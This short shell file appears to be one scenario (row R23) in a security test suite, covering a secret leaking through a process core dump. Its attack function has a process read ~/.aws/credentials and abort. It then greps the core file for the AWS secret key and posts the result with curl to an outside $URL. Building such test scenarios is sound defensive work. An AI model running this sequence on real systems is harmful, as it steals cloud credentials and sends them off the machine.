# SPDX-License-Identifier: Apache-2.0
COVERAGE=full WHY="the kernel writes the core, no system call does"
TITLE="the core of a process that held the secret, read by somebody else"
ROW="R23"
possible() { case $(cat /proc/sys/kernel/core_pattern) in [\|/]* | '') echo "cores do not go to the working folder"; return 1 ;; esac; }
attack() {
	(
		ulimit -c unlimited
		python3 -c 'import os; data = open(os.path.expanduser("~/.aws/credentials")).read(); os.abort()'
	)
	sleep 0.3
	grep -a aws_secret_access_key core* >loot
	curl -s -m 5 --data-binary @loot "$URL/"
}
